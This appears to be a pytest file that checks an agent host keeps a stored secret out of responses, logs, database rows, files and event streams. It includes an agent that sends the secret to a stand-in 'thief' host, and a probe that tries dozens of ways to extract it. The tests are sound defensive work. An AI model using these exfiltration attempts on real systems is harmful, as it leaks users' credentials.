"""A secret that is used shows nowhere: not to the agent, in no effect, answer, error, log, row or file.

The server it is sent to tells it back in every way it can; the agent tries to get at it in every way it can. The last
tests show that the search finds a value where there is one.
"""

import asyncio
import base64
import html
import json
import logging
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from structlog.testing import capture_logs

from service.app import create_app
from service.database.postgres import PostgresDatabase
from service.local import LocalIdentity
from service.outside.http import HttpDoor
from service.outside.outside import Outside
from service.outside.vault import Vault
from service.secret_keys import SecretKey
from service.settings import Settings
from tests.outside.name_server import to
from tests.outside.site import Site, redirect, site, text
from tests.postgres import Addresses, Server
from tests.service.canary import Canary, rows
from tests.service.conftest import LocalHost, User
from tests.service.served import served

API, THIEF = "api.example.com", "thief.example.com"


@dataclass(slots=True)
class World:
    """A user of a host, the server that their secret is for, another server, and all that was answered and logged."""

    user: User
    api: Site
    thief: Site
    addresses: Addresses
    answers: list[str]
    logs: list[Any]
    canary: Canary = field(default_factory=Canary)

    @property
    def api_host(self) -> str:
        return f"{API}:{self.api.port}"

    @property
    def thief_host(self) -> str:
        return f"{THIEF}:{self.thief.port}"

    async def keep_secret(self) -> None:
        body = {"value": self.canary.value, "hosts": [f"http://{self.api_host}"]}
        answer = await self.user.http.put("/secrets/CANARY", json=body)
        assert answer.status_code == 204, answer.text

    async def define(self, name: str, code: str) -> None:
        code = code.replace("API", f"http://{self.api_host}").replace("THIEF", f"http://{self.thief_host}")
        capabilities = {
            "http": {
                "hosts": [self.api_host, self.thief_host],
                "methods": ["GET", "POST"],
                "schemes": ["http"],
            },
            "secrets": {"names": ["CANARY"]},
            "kv": {},
            "notify": {},
            "agents": {"names": ["echo"]},
        }
        await self.user.define(name, code, capabilities=capabilities)

    async def look_at_everything(self) -> None:
        """Ask every route for what there is: the answers are kept as all are."""
        http = self.user.http
        runs = (await http.get("/runs")).json()["data"]
        for path in ("/secrets", "/agents", "/limits", "/ready", *(f"/runs/{run['run_id']}" for run in runs)):
            await http.get(path)
        for agent in (await http.get("/agents")).json()["data"]:
            for path in ("", "/versions", "/versions/1"):
                await http.get(f"/agents/{agent['agent_name']}{path}")

    async def places(self, canary: Canary | None = None) -> set[str]:
        """Where it is."""
        canary = canary or self.canary
        found = {table for table, texts in (await rows(self.addresses)).items() if any(map(canary.is_in, texts))}
        if any(map(canary.is_in, self.answers)):
            found.add("answers")
        if canary.is_in(json.dumps(self.logs, default=repr)):
            found.add("logs")
        return found


@pytest.fixture
async def world(
    local_host: LocalHost, cloned: Addresses, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> AsyncIterator[World]:
    """A host of its own, for which the two servers are of the public internet; logs are taken as it writes them."""
    caplog.set_level(logging.WARNING)
    settings = Settings(data_dir=tmp_path)
    async with site() as api, site() as thief:
        door = HttpDoor(resolve=to("127.0.0.1"), allowed=frozenset({api.pair, thief.pair}))
        app = create_app(
            settings,
            database=PostgresDatabase(cloned.serving_dsn),
            outside=Outside(http=door, vault=Vault([SecretKey("k", b"k" * 32)])),
        )
        with capture_logs() as logs:
            async with served(app, settings) as url, someone(app, settings, url) as (user, answers):
                yield World(user, api, thief, cloned, answers, logs)
    assert not caplog.records, "a library logged something"


@asynccontextmanager
async def someone(app: Any, settings: Settings, url: str) -> AsyncIterator[tuple[User, list[str]]]:
    """A new user, all of whose answers are kept."""
    answers: list[str] = []

    async def keep(answer: httpx.Response) -> None:
        await answer.aread()
        answers.append(f"{answer.headers}\n{answer.text}")

    async with LocalHost(url, app, LocalIdentity.in_directory(settings.data_dir)).user() as user:
        user.http.event_hooks["response"].append(keep)
        yield user, answers


ECHOES: dict[str, Callable[[str], str]] = {
    "plain": str,
    "json": lambda value: json.dumps({"authorization": value}),
    "ascii json in json": lambda value: json.dumps(json.dumps([value])),
    "python": repr,
    "html": html.escape,
    "percent": lambda value: quote(value, safe=""),
    "base64": lambda value: base64.b64encode(value.encode()).decode(),
    "base64 for urls": lambda value: base64.urlsafe_b64encode(f"x{value}".encode()).decode(),
    "basic": lambda value: "Basic " + base64.b64encode(f"user:{value}".encode()).decode(),
    "hex": lambda value: value.encode().hex(),
    "twice": lambda value: value + value,
}

ECHO = """
def run(services, path: str):
    key = services.secrets.ref("CANARY")
    answer = services.http.get("API" + path, headers={"Authorization": "Bearer " + key, "X-Key": key})
    seen = [answer.status, answer.headers, answer.text, answer.url]
    print(seen)
    services.kv.set("seen", seen)
    services.notify.send("seen", str(seen))
    return seen
"""


@pytest.mark.parametrize("spelled", ECHOES)
async def test_an_echo_is_masked_in_body_and_headers(world: World, spelled: str) -> None:
    async def echo(writer: asyncio.StreamWriter) -> None:
        headers = world.api.seen[-1].headers
        told = ECHOES[spelled](headers["x-key"])
        writer.write(text(f"{told}\n{ECHOES[spelled](headers['authorization'])}", f"X-Echo: {told}"))

    world.api.answers["/echo"] = echo
    await world.keep_secret()
    await world.define("echo", ECHO)
    run = (await world.user.run("echo", path="/echo")).json()
    assert run["status"] == "succeeded", run
    assert world.api.seen[-1].headers["x-key"] == world.canary.value
    assert world.api.seen[-1].headers["authorization"] == f"Bearer {world.canary.value}"
    assert "[secret]" in run["output"][2]
    await world.look_at_everything()
    assert await world.places() == set()


async def test_what_a_server_remembers_and_tells_later_is_masked(world: World) -> None:
    async def last(writer: asyncio.StreamWriter) -> None:
        writer.write(text(world.api.seen[0].headers["x-key"]))

    world.api.answers |= {"/keep": text("kept"), "/last": last}
    await world.keep_secret()
    await world.define(
        "later",
        """
def run(services):
    services.http.get("API/keep", headers={"X-Key": services.secrets.ref("CANARY")})
    return services.http.get("API/last").text
""",
    )
    assert (await world.user.run("later")).json()["output"] == "[secret]"
    await world.look_at_everything()
    assert await world.places() == set()


def broken(world: World, spelled: Callable[[str], bytes]) -> Callable[[asyncio.StreamWriter], Any]:
    async def answer(writer: asyncio.StreamWriter) -> None:
        writer.write(spelled(world.api.seen[-1].headers["x-key"]))

    return answer


BROKEN: dict[str, Callable[[str], bytes]] = {
    "no http at all": lambda key: f"{key}\r\n\r\n".encode(),
    "in the status line": lambda key: f"HTTP/1.1 abc {key}\r\n\r\n".encode(),
    "as the reason": lambda key: f"HTTP/1.1 500 {key}\r\nContent-Length: 0\r\n\r\n".encode(),
    "in a bad header": lambda key: f"HTTP/1.1 200 OK\r\nbad header {key}\r\n\r\n".encode(),
    "in a bad length": lambda key: f"HTTP/1.1 200 OK\r\nContent-Length: {key}\r\n\r\n".encode(),
    "in a bad chunk": lambda key: f"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n{key}\r\n".encode(),
    "in a bad encoding": lambda key: f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n{key}".encode(),
    "in an unknown encoding": lambda key: f"HTTP/1.1 200 OK\r\nContent-Encoding: {key}\r\n\r\nx".encode(),
    "in an unknown charset": lambda key: text(key, f'Content-Type: text/plain; charset="{key}"'),
    "cut off": lambda key: f"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n{key}".encode(),
    "a redirect to nowhere": lambda key: redirect(f"http://{key}/"),
    "a redirect with it": lambda key: redirect(f"/again?key={quote(key)}"),
    "a redirect to another with it": lambda key: redirect(f"http://other.example.com/?key={quote(key)}"),
    "too large": lambda key: text(key * 40_000),
}


@pytest.mark.parametrize("how", BROKEN)
async def test_a_broken_answer_tells_nothing(world: World, how: str) -> None:
    world.api.answers |= {"/broken": broken(world, BROKEN[how]), "/again": text("again")}
    await world.keep_secret()
    await world.define("echo", ECHO)
    run = (await world.user.run("echo", path="/broken")).json()
    assert world.api.seen[0].headers["x-key"] == world.canary.value
    assert run["effects"][1]["performed"], run["effects"]
    await world.look_at_everything()
    assert await world.places() == set()


async def test_another_host_gets_nothing(world: World) -> None:
    world.api.answers["/away"] = redirect(f"http://{world.thief_host}/caught")
    world.thief.answers["/caught"] = text("thank you")
    await world.keep_secret()
    await world.define("echo", ECHO)
    assert (await world.user.run("echo", path="/away")).json()["output"][2] == "thank you"
    await world.define(
        "gift",
        """
def run(services):
    key = services.secrets.ref("CANARY")
    services.http.get("THIEF/caught", headers={"X-Key": key})
""",
    )
    refused = (await world.user.run("gift")).json()
    assert refused["error"]["type"] == "CapabilityDenied"
    assert "CANARY is not bound to" in refused["error"]["message"]
    [caught] = world.thief.seen
    assert not world.canary.is_in(str(caught))
    await world.look_at_everything()
    assert await world.places() == set()


PROBE = """
import copy
import json
import pprint
import string
from dataclasses import dataclass, asdict

@dataclass
class Held:
    key: object

def run(services):
    key = services.secrets.ref("CANARY")
    told = []

    def attempt(what):
        try:
            told.append(str(what()))
        except Exception as error:
            told.append([type(error).__name__, str(error), str(error.args)])

    print(key, repr(key), [key], {"key": key}, "Bearer " + key + "!", key + key)
    pprint.pprint({"key": key})
    for what in (
        lambda: str(key), lambda: f"{key}", lambda: f"{key!r}", lambda: f"{key:>9}", lambda: "%s" % key,
        lambda: "{} {0!r}".format(key), lambda: "{0.value}".format(key),
        lambda: string.Template("$k").substitute(k=key),
        lambda: json.dumps(key), lambda: json.dumps([key], default=str), lambda: list(key), lambda: dict(key),
        lambda: len(key), lambda: hash(key), lambda: "".join(["a", key]), lambda: key + 1, lambda: 1 + key,
        lambda: key * 3, lambda: key[0], lambda: key == "x", lambda: key < "x", lambda: bytes(key), lambda: int(key),
        lambda: copy.copy(key), lambda: copy.deepcopy(key), lambda: asdict(Held(key)), lambda: key.value,
        lambda: key.parts, lambda: key.encode(), lambda: {key: 1}, lambda: sorted([key, key]),
        lambda: services.secrets.ref("OTHER"), lambda: getattr(services.secrets, "get")("CANARY"),
        lambda: services.kv.set("key", key), lambda: services.kv.set("key", str(key)),
        lambda: services.notify.send(key), lambda: services.notify.send(str(key), repr(key)),
        lambda: services.http.get("API/echo/" + key), lambda: services.http.get("API/echo", params={"k": key}),
        lambda: services.http.post("API/echo", json={"k": key}), lambda: services.http.post("API/echo", data=key),
        lambda: services.http.post("API/echo", json={"secret": "CANARY"}).text,
        lambda: services.http.post("API/echo", headers={"X-Key": str(key)}, data=str(key)).text,
        lambda: services.http.post("API/echo", headers={"X-" + str(key): "1"}).text,
        lambda: services.http.get("API/echo", headers={key: "1"}).text,
    ):
        attempt(what)
    services.kv.set("told", told)
"""


@pytest.mark.parametrize("ending", ["return told", "return key", "return [told, key]", "raise ValueError(key, told)"])
async def test_an_agent_has_a_name_and_nothing_else(world: World, ending: str) -> None:
    world.api.answers["/echo"] = text("nothing")
    await world.keep_secret()
    await world.define("probe", f"{PROBE}    {ending}\n")
    live = (await world.user.run("probe")).json()
    assert live.get("run_status", "succeeded") == ("succeeded" if ending == "return told" else "failed"), live
    assert "<secret CANARY>" in live["logs"][0]
    assert "Bearer <secret CANARY>!" in live["logs"][0]
    assert not any(world.canary.is_in(str(seen)) for seen in world.api.seen)
    before = len(world.api.seen)
    dry = (await world.user.run("probe", test="true")).json()
    assert dry["status"] == live["status"]
    asked = [[(each["service"], each["action"], each["granted"]) for each in run["effects"]] for run in (live, dry)]
    assert asked[0] == asked[1]
    assert len(world.api.seen) == before
    await world.look_at_everything()
    assert await world.places() == set()


async def test_a_stream_of_events_and_a_child_run_tell_nothing(world: World) -> None:
    async def echo(writer: asyncio.StreamWriter) -> None:
        writer.write(text(world.api.seen[-1].headers["x-key"]))

    world.api.answers["/echo"] = echo
    await world.keep_secret()
    await world.define("echo", ECHO)
    await world.define("parent", 'def run(services):\n    return services.agents.run("echo", {"path": "/echo"})\n')
    for name, query in (("echo", {"path": "/echo"}), ("parent", {})):
        before = len(world.api.seen)
        headers = {"Accept": "text/event-stream"}
        streamed = await world.user.http.get(world.user.url(name), params=query, headers=headers)
        assert "[secret]" in streamed.text, streamed.text
        assert len(world.api.seen) == before + 1
    await world.look_at_everything()
    assert await world.places() == set()


async def test_what_is_wrong_with_a_put_does_not_repeat_it(world: World) -> None:
    async def put(body: str, kind: str) -> httpx.Response:
        return await world.user.http.put("/secrets/CANARY", content=body, headers={"Content-Type": kind})

    value = world.canary.value
    whole = json.dumps({"value": value, "hosts": [API]})
    bodies = [
        json.dumps({"value": value}),
        json.dumps({"value": value, "hosts": []}),
        json.dumps({"value": [value], "hosts": [API]}),
        json.dumps({"value": f"{value}\n", "hosts": [API]}),
        json.dumps({"value": value * 400, "hosts": [API]}),
        json.dumps({"value": value, "hosts": [API], "more": value}),
        json.dumps({"value": "x", "hosts": [value]}),
        json.dumps(value),
        whole[:-1],
        whole + whole,
        whole.replace('"hosts"', '"value"'),
    ]
    for body in bodies:
        answer = await put(body, "application/json")
        assert answer.status_code in (400, 422), body
    assert (await put(whole, "text/plain")).status_code == 415
    assert await world.places() == set()


async def test_it_is_in_no_file_of_the_database(world: World, postgres: Server, tmp_path: Path) -> None:
    if postgres.data_dir is None:
        pytest.skip("the server is not ours")
    world.api.answers["/echo"] = text("nothing")
    await world.keep_secret()
    await world.define("echo", ECHO)
    assert (await world.user.run("echo", path="/echo")).status_code == 200
    assert world.canary.is_in_files_of(postgres.data_dir) == []
    assert world.canary.is_in_files_of(tmp_path) == []


async def test_the_search_finds_what_is_there(world: World, postgres: Server) -> None:
    """An agent that is given the value as its input spreads it, and every place is found."""
    planted = Canary()
    await world.define(
        "spread",
        """
def run(services, value: str):
    services.kv.set("value", value)
    services.notify.send(value)
    return value
""",
    )
    assert (await world.user.run("spread", value=planted.value)).status_code == 200
    tables = ("runs", "run_effects", "agent_kv", "agent_notifications")
    places = {"answers", *(f"agenthost.{table}" for table in tables)}
    assert await world.places(planted) == places
    world.logs.append({"event": "x", "error": ValueError(planted.value)})
    assert await world.places(planted) == {*places, "logs"}
    assert await world.places() == set()
    if postgres.data_dir is not None:
        assert planted.is_in_files_of(postgres.data_dir)


@pytest.mark.parametrize("spelled", ECHOES)
def test_the_search_knows_how_a_value_may_be_spelled(spelled: str) -> None:
    canary, other = Canary(), Canary()
    for before in ("", "x", "xy", "xyz"):
        told = ECHOES[spelled](before + canary.value)
        assert canary.is_in(f"before {told} behind")
        assert not other.is_in(told)
    assert canary.is_in(canary.value[10:].upper())
